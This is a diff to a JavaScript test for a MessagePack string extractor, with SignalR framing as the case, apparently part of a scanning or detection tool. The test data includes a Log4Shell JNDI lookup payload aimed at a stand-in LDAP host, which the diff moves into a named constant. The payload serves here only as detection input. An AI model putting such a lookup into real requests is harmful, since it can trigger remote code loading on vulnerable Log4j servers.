@@ -44,13 +44,15 @@ describe('msgpackStrings against @msgpack/msgpack', () => {
   });
 
   it('reads SignalR framing: each MessagePack message prefixed with its varint length', () => {
-    const invocation = encode([1, {}, 'abc', 'SendMessage', ['alice', '${jndi:ldap://x.example/a}']]);
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
+    const lookup = '${jndi:ldap://x.example/a}';
+    const invocation = encode([1, {}, 'abc', 'SendMessage', ['alice', lookup]]);
     const framed = Uint8Array.from([invocation.length, ...invocation]);
     expect(msgpackStrings(framed, 64)).toEqual([
       ['$[0][2]', 'abc'],
       ['$[0][3]', 'SendMessage'],
       ['$[0][4][0]', 'alice'],
-      ['$[0][4][1]', '${jndi:ldap://x.example/a}'],
+      ['$[0][4][1]', lookup],
     ]);
   });
 
